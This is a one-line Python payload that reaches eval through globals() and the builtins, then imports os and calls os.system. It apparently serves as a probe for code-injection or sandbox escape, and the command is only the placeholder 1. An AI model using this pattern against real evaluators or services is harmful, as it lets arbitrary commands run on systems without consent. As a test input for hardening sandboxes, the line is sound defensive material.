globals().get('__builtins__').get('eval')('__import__("os").system(1)')
